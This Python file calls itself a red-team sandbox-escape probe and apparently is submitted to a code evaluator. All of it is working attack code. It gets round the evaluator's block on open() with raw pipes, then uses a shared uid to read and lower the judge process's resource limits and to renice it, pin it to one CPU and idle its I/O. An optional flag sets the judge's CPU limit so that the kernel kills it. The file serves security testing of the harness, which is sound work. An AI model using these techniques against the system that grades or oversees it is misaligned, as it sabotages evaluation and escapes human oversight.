"""Red team 8 escape probe: the judge's limits and scheduling, set by the worker.

Run behind the allow-list (`evaluate(..., refuse_imports=False)`). run() starts a fresh
Python in the jail and raises its report, so the probe is never ok. The worker and the
judge (PID 1 of the jail) share one uid, which is what Linux checks for prlimit(2) on
another process, setpriority(2), sched_setaffinity(2) and ioprio_set(2): lowering a
limit or a priority needs no capability. Tried on PID 1: read its limits; lower its
open-files soft limit (then put it back); renice it to 19; pin it to one CPU; set its
I/O class to idle; and, where KILL_JUDGE is set, lower its CPU-time hard limit to the
CPU time it has used plus one second, which makes the kernel SIGKILL it (a forced
kernel signal, delivered even to a namespace's init). JUDGE lines are the judge's
state changed by the candidate.
"""
import os
import subprocess

KILL_JUDGE = False

CHILD = r'''
import ctypes, os, resource
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def rep(tag, what, detail=""):
    print(tag, what, detail, flush=True)
KILL = %s
try:
    nofile = resource.prlimit(1, resource.RLIMIT_NOFILE)
    cpu = resource.prlimit(1, resource.RLIMIT_CPU)
    fsize = resource.prlimit(1, resource.RLIMIT_FSIZE)
    rep("LEAK", "read the judge's limits", f"nofile={nofile} cpu={cpu} fsize={fsize}")
    resource.prlimit(1, resource.RLIMIT_NOFILE, (16, nofile[1]))
    now = resource.prlimit(1, resource.RLIMIT_NOFILE)
    resource.prlimit(1, resource.RLIMIT_NOFILE, nofile)
    rep("JUDGE", "lowered the judge's open-files soft limit", f"{nofile} -> {now} (put back)")
except OSError as e:
    rep("HELD", "prlimit on the judge", e.strerror)
try:
    before = os.getpriority(os.PRIO_PROCESS, 1)
    os.setpriority(os.PRIO_PROCESS, 1, 19)
    rep("JUDGE", "reniced the judge", f"{before} -> {os.getpriority(os.PRIO_PROCESS, 1)}")
except OSError as e:
    rep("HELD", "renice the judge", e.strerror)
try:
    before = os.sched_getaffinity(1)
    os.sched_setaffinity(1, {min(before)})
    rep("JUDGE", "pinned the judge to one CPU", f"{sorted(before)} -> {sorted(os.sched_getaffinity(1))}")
    os.sched_setaffinity(1, before)
except OSError as e:
    rep("HELD", "pin the judge", e.strerror)
rc = libc.syscall(251, 1, 1, (3 << 13) | 0)  # ioprio_set(WHO_PROCESS, 1, CLASS_IDLE)
rep("JUDGE" if rc == 0 else "HELD", "judge's I/O class idle", "" if rc == 0 else os.strerror(ctypes.get_errno()))
try:
    stat = open("/proc/1/stat").read().rsplit(")", 1)[1].split()
    used = (int(stat[11]) + int(stat[12])) // os.sysconf("SC_CLK_TCK")
    rep("LEAK", "the judge's CPU seconds so far", str(used))
    if KILL:
        resource.prlimit(1, resource.RLIMIT_CPU, (used + 1, used + 1))
        rep("JUDGE", "set the judge's CPU hard limit", str(resource.prlimit(1, resource.RLIMIT_CPU)))
except OSError as e:
    rep("HELD", "the judge's CPU limit", e.strerror)
print("done", flush=True)
'''


def _launch(code):
    """A fresh Python in the jail; its output read through a pipe made by os.pipe (the
    evaluator refuses open(), which subprocess's own pipes go through)."""
    try:
        rfd, wfd = os.pipe()
        child = None
        for exe in ("/usr/bin/python3", "/root/.pyenv/versions/3.11.7/bin/python3"):
            try:  # an absolute path: Popen then reads no PATH from the environment
                child = subprocess.Popen([exe, "-I", "-c", code], stdout=wfd, stderr=wfd)
                break
            except FileNotFoundError:
                continue
        os.close(wfd)
        chunks = []
        while True:
            chunk = os.read(rfd, 65536)
            if not chunk:
                break
            chunks.append(chunk)
        child.wait(timeout=240)
        lines = b"".join(chunks).decode(errors="replace").splitlines()
        rank = {"ESCAPED": 2, "LEAK": 1}  # ESCAPED last: the output keeps its tail
        lines.sort(key=lambda line: rank.get(line.split(" ", 1)[0].split("(")[0], 0))
        return "\n".join(lines)[-3500:]
    except BaseException as e:  # noqa: BLE001 - any refusal is part of the report
        return f"launcher refused: {e!r}"


def run(x, weight, eps=1e-6):
    report = _launch(CHILD % KILL_JUDGE)
    print(report, flush=True)  # also in the stdout tail, whatever kind the verdict is
    raise RuntimeError("probe report (never ok):\n" + report)
